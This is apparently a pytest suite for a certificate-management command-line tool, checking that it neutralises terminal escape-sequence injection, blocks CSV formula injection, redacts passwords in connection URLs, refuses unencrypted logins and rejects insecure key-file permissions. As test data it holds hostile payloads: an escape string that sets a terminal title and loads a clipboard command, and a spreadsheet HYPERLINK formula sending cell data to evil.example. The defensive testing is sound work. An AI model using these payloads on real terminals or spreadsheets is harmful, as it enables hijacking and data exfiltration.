"""What an attacker tries with texts that end up on a terminal or in a file, and with the files that hold keys."""

import csv
import io
import json
import logging
import os
import pty
import re
import stat
import subprocess
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
import structlog
from cryptography.fernet import Fernet
from sqlalchemy import func, update

from certline.cli import report
from certline.cli.errors import Fault
from certline.models import Schedule
from certline.models.accounts.account import account_named
from certline.models.file_rights import UnsafeFileError, make_home, rights_of
from certline.models.server_url import without_password
from certline.models.settings import Settings
from certline.models.vault import open_vault
from certline.workers.process.logs import configure
from certline.workers.process.visible import visible, visible_json
from tests.acceptance.terminal import Terminal
from tests.integration.cli import conftest as cli
from tests.support.factories import an_account, an_order

typist = cli.typist
Typist = cli.Typist

# Title, clipboard, clear, BEL; C1's own CSI and OSC; DEL; an override, an isolate, a mark; a tag; a zero width.
ATTACK = (
    "\x1b]0;pwned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b31m\x9d0;x\x9c\x7f\r"
    "\u202egpj.exe\u2066a\u200eb\u2069\u061c\u200b\ufeff\U000e0041"
)
# What rich and click write themselves: colours, and nothing that has an effect beyond its own text.
COLOURS = re.compile(rb"\x1b\[[0-9;]*m")
READABLE = (
    "Zürich GmbH",
    "株式会社ノルトハーフェン",
    "شرکت نمونه\u200cای",  # noqa: RUF001
    "חברה לדוגמה",
    "ООО «Пример»",  # noqa: RUF001
    "👩\u200d🔧 café é",
    "हिन्दी क्\u200dष",
)


def raw_on_screen(terminal: Terminal, *words: str) -> bytes:
    """Run a command at a pseudo-terminal, and return the bytes that the terminal was sent."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-P", "-m", "certline", *words],
        env=terminal.environment | {"TERM": "xterm-256color", "COLUMNS": "300"},
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    seen = b""
    with suppress(OSError):  # the end of a pseudo-terminal is an error
        while piece := os.read(ours, 65_536):
            seen += piece
    os.close(ours)
    assert process.wait(120) == 0, seen.decode()
    return COLOURS.sub(b"", seen).replace(b"\r\n", b"\n")


def dangers_in(text: str) -> set[str]:
    """Return the characters of the attack that a text contains as they are."""
    return {each for each in text if each in ATTACK and not (each.isascii() and each.isprintable())}


@pytest.fixture
def hostile(typist: Typist) -> str:
    """Return the id of an order whose every free text is an attack."""
    with typist.database.transaction() as db:
        order = an_order(
            db,
            an_account(db, name="hafen", login=f"ida{ATTACK}"),
            comments=f"paid{ATTACK}",
            profile_name=f"OV{ATTACK}",
            organization_name=f"Nordhafen{ATTACK}",
            requested_by=f"shop{ATTACK}",
            error=f"SCM says{ATTACK}",
            scm_status=f"Applied{ATTACK}",
            external_requesters=[f"a{ATTACK}@b.example"],
        )
        return order.id


@pytest.mark.parametrize(
    "words",
    [("order", "show"), ("order", "list"), ("account", "list"), ("account", "show", "hafen")],
    ids=" ".join,
)
def test_a_text_that_would_steer_the_operators_terminal_is_shown_as_what_it_is(
    typist: Typist, hostile: str, words: tuple[str, ...]
) -> None:
    said = typist.types(*words, *([hostile] if words == ("order", "show") else []))

    assert dangers_in(said) == set()
    if words[0] == "account" or words[1] == "show":
        assert "\\x1b]0;pwned\\x07" in said
        assert "\\u202egpj.exe" in said


@pytest.mark.slow
def test_no_list_or_detail_sends_a_real_terminal_what_an_order_brought(
    database_url: str, hostile: str
) -> None:
    terminal = Terminal(database_url)
    shown = [("order", "show", hostile), ("order", "list"), ("account", "list")]
    for words in (*shown, ("order", "list", "--csv"), ("order", "list", "--json")):
        seen = raw_on_screen(terminal, *words)

        assert b"shop.nordhafen.example" in seen or b"hafen" in seen
        assert dangers_in(seen.decode()) == set(), words


def test_json_of_a_hostile_text_steers_nothing_and_means_the_same(
    typist: Typist, hostile: str
) -> None:
    shown = typist.json("order", "show", hostile)

    assert shown["comments"] == f"paid{ATTACK}"
    assert dangers_in(typist.out) == set()
    assert json.loads(visible_json(json.dumps(ATTACK, ensure_ascii=False))) == ATTACK


def test_an_error_that_quotes_an_attack_steers_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    fault = Fault(f"SCM refused: {ATTACK}", problems=[f"one {ATTACK}"], hint=f"try {ATTACK}")

    for as_json in (False, True):
        report.tell(fault, as_json=as_json)
        said = capsys.readouterr()
        assert "pwned" in said.err + said.out
        assert dangers_in(said.out + said.err) == set()


def test_a_log_on_a_console_steers_nothing_and_has_no_forged_entries(
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = logging.getLogger()
    handlers, level = root.handlers, root.level
    try:
        configure(Settings(log="console"), "worker")
        entry = structlog.get_logger()
        entry.warning("scm.refused", why=f"no{ATTACK}\n2026-01-01 [info] order.approved")
        logging.getLogger("pika").error("lost %s\nforged", ATTACK)
        try:
            raise RuntimeError(ATTACK)  # noqa: TRY301
        except RuntimeError:
            entry.exception("failed")
    finally:
        root.handlers = handlers
        root.setLevel(level)
        structlog.reset_defaults()

    said = capsys.readouterr().err
    assert "pwned" in said
    assert dangers_in(said) - {"\r"} == set()
    assert "\r" not in said
    assert not [line for line in said.splitlines() if line.startswith(("2026-01-01 [", "forged"))]


@pytest.mark.parametrize("text", READABLE)
def test_names_of_every_script_stay_readable(text: str) -> None:
    assert visible(text) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "\uff1d"])
def test_a_comment_that_is_a_formula_does_not_run_in_a_spreadsheet(
    typist: Typist, start: str
) -> None:
    attack = f'{start}HYPERLINK("https://evil.example?"&A1,"open")'
    with typist.database.transaction() as db:
        an_order(db, comments=attack, requested_by="-5", scm_id=77, status="pending")

    typist.types("order", "list", "--csv")

    [row] = csv.DictReader(io.StringIO(typist.out, newline=""))
    assert row["comments"] == f"'{attack}"
    assert row["requested_by"] == "'-5"
    assert row["scm_id"] == "77"  # a number stays one
    assert typist.json("order", "list")[0]["comments"] == attack


SECRET = "hun,ter2"


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://ida:{SECRET}@one,two:5433/db",
        f"postgresql://ida:x;{SECRET}@one/db",
        f"amqp://ida:x;{SECRET}@one:5672/%2F;amqp://ida:y;{SECRET}@two/v",
        f"postgresql://ida:x@{SECRET}@one/db",
        f"postgresql://ida:x/{SECRET}?@one/db",
        f"postgresql://one/db?user=ida&password={SECRET}&sslmode=require",
        f"postgresql://one/db?sslpassword={SECRET}",
        f"postgresql://one/db?pass%77ord={SECRET}",
        f"postgresql://one/db?password=x@{SECRET}",
        f"postgresql+psycopg://ida:{SECRET}@/db?host=/run/postgresql",
        f"host=one dbname=db user=ida password={SECRET}",
        f"host=one password='a b\\' {SECRET}' user=ida",
        f"host=one password = '{SECRET}",
        f"amqps://ida:{SECRET}@one:5671/v?ssl_options={{'password': '{SECRET}'}}",
        f"amqp://ida:{SECRET}",
        f"http://ida:{SECRET}@proxy:3128",
    ],
)
def test_no_form_of_a_url_gives_its_password_away(url: str) -> None:
    shown = without_password(url)

    assert SECRET not in shown
    assert "ter2" not in shown
    assert "***" in shown


def test_a_url_without_a_password_is_shown_whole() -> None:
    url = "postgresql://ida@[::1]:5432,two:5433/db?sslmode=require&passfile=/etc/pg"

    assert without_password(url) == url


def test_doctor_hides_a_password_with_a_semicolon(monkeypatch: pytest.MonkeyPatch) -> None:
    from certline.cli.checks import servers  # noqa: PLC0415
    from certline.models.settings import settings  # noqa: PLC0415

    monkeypatch.setenv("CERTLINE_RABBITMQ_URL", "amqp://ida:abc;defghi@127.0.0.1:5672/%2F")
    settings.cache_clear()
    monkeypatch.setattr(servers, "reach_rabbit", lambda _settings: None)
    with monkeypatch.context() as patch:
        patch.setattr("certline.cli.context.settings", settings)
        said = servers.check_rabbitmq().text
    settings.cache_clear()

    assert said == "amqp://ida:***@127.0.0.1:5672/%2F"


def adding(tmp_path: Path, *more: str, url: str = "http://scm.example/api") -> list[str]:
    (tmp_path / "password").write_text("hunter2\n")
    who = ["--customer-uri=demo", "--login=admin", f"--password-file={tmp_path}/password"]
    return ["account", "add", "hafen", f"--url={url}", *who, "--no-verify", *more]


@pytest.mark.parametrize(
    "url",
    [
        "http://scm.example/api",
        "HTTP://scm.example",
        "http://10.0.0.8:8500",
        "http://127.0.0.1.evil.example/api",
        "http://localhost.evil.example/api",
    ],
)
def test_a_login_is_not_sent_readable_to_another_machine(
    typist: Typist, tmp_path: Path, url: str
) -> None:
    said = typist.types(*adding(tmp_path, url=url), code=2)

    assert "is not encrypted" in said
    assert "--insecure" in said
    with typist.database.transaction() as db:
        assert account_named(db, "hafen") is None


def test_an_api_keys_secret_is_not_sent_to_a_readable_token_server(
    typist: Typist, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text("hunter2\n")
    words = ["--url=https://scm.example/api", "--client-id=ida", "--no-verify"]
    words += [f"--client-secret-file={tmp_path}/secret", "--token-url=http://sso.example/token"]

    assert "http://sso.example/token is not encrypted" in typist.types(
        "account", "add", "hafen", *words, code=2
    )


@pytest.mark.parametrize("host", ["127.0.0.1:8500", "localhost", "[::1]:8500", "127.8.8.8"])
def test_a_simulator_on_the_same_machine_needs_no_encryption(
    typist: Typist, tmp_path: Path, host: str
) -> None:
    typist.types(*adding(tmp_path, url=f"http://{host}/api"))


def test_an_unencrypted_account_is_wanted_by_name_and_doctor_names_it(
    typist: Typist, tmp_path: Path
) -> None:
    typist.types(*adding(tmp_path, "--insecure"))
    with typist.database.transaction() as db:
        row = account_named(db, "hafen")
        assert row is not None
        row.synced_at = row.created_at
        # The tables may have been made long ago: no schedule is overdue.
        db.execute(update(Schedule).values(next_due=func.now()))

    checks: dict[str, Any] = {each["name"]: each for each in typist.json("doctor")["checks"]}
    said = typist.types(
        "account", "verify", "hafen", f"--password-file={tmp_path}/password", code=2
    )

    assert checks["accounts"]["ok"]
    assert "over http://, readable on the way: hafen" in checks["accounts"]["text"]
    assert "is not encrypted" in said


@pytest.fixture
def key_file(tmp_path: Path) -> Path:
    """Return a file with a secret key, in a folder of its own, both for their owner only."""
    folder = tmp_path / "keys"
    folder.mkdir(mode=0o700)
    file = folder / "secret.key"
    file.write_text(Fernet.generate_key().decode())
    file.chmod(0o600)
    return file


def opened(file: Path) -> None:
    open_vault(
        Settings.model_validate({"database_url": "postgresql://x/x", "secret_key_file": file})
    )


@pytest.mark.parametrize("mode", [0o666, 0o622, 0o602, 0o660, 0o644, 0o640, 0o604])
def test_a_key_that_others_can_change_or_read_is_not_used(key_file: Path, mode: int) -> None:
    opened(key_file)
    key_file.chmod(mode)

    with pytest.raises(UnsafeFileError, match=f"chmod 600 {key_file}"):
        opened(key_file)


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o733])
def test_a_key_in_a_folder_where_others_could_replace_it_is_not_used(
    key_file: Path, mode: int
) -> None:
    key_file.parent.chmod(mode)

    with pytest.raises(UnsafeFileError, match=f"chmod go-w {key_file.parent}"):
        opened(key_file)


def test_a_link_to_a_key_in_somebody_elses_folder_is_not_used(
    key_file: Path, tmp_path: Path
) -> None:
    key_file.parent.chmod(0o777)
    link = tmp_path / "secret.key"
    link.symlink_to(key_file)

    with pytest.raises(UnsafeFileError, match="go-w"):
        opened(link)


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="gives files to other users: root only")


@needs_root
def test_a_key_that_belongs_to_another_user_is_not_used(key_file: Path) -> None:
    os.chown(key_file, 65_534, 65_534)

    with pytest.raises(UnsafeFileError, match="belongs to another user"):
        opened(key_file)


@needs_root
@pytest.mark.parametrize("mode", [0o444, 0o644, 0o440, 0o400])
def test_a_secret_that_kubernetes_or_docker_mounts_is_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: int
) -> None:
    # A volume of Kubernetes: a sticky folder, and links to the newest set of files; all of it root's.
    volume = tmp_path / "volume"
    (volume / "..2026").mkdir(parents=True, mode=0o755)
    volume.chmod(0o1777)
    (volume / "..2026" / "secret.key").write_text(Fernet.generate_key().decode())
    (volume / "..2026" / "secret.key").chmod(mode)
    (volume / "..data").symlink_to("..2026")
    (volume / "secret.key").symlink_to("..data/secret.key")
    monkeypatch.setattr(os, "geteuid", lambda: 10_001)

    rights = rights_of(volume / "secret.key")

    assert rights.fault is None
    assert bool(rights.warning) == bool(mode & stat.S_IROTH)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """Run a test as a careless user: what is made may be changed by everybody."""
    before = os.umask(0)
    yield
    os.umask(before)


@pytest.mark.usefixtures("open_umask")
def test_a_home_is_its_owners_alone_whatever_the_umask(tmp_path: Path) -> None:
    home = tmp_path / "home"

    open_vault(Settings(home=home))

    assert home.stat().st_mode & 0o777 == 0o700
    assert (home / "secret.key").stat().st_mode & 0o777 == 0o600


def test_a_home_that_others_can_change_is_not_used(tmp_path: Path) -> None:
    home = tmp_path / "home"
    open_vault(Settings(home=home))
    home.chmod(0o777)

    with pytest.raises(UnsafeFileError, match=f"chmod go-w {home}"):
        open_vault(Settings(home=home))
    with pytest.raises(UnsafeFileError, match=f"chmod go-w {home}"):
        make_home(home)


def test_doctor_and_commands_say_how_to_mend_a_key_file(
    typist: Typist, key_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from certline.models.settings import settings  # noqa: PLC0415

    monkeypatch.delenv("CERTLINE_SECRET_KEY")
    monkeypatch.setenv("CERTLINE_SECRET_KEY_FILE", str(key_file))
    settings.cache_clear()
    key_file.chmod(0o666)

    assert f"chmod 600 {key_file}" in typist.types("keys", "status", code=1)
    assert f"chmod 600 {key_file}" in typist.types("doctor", code=1)
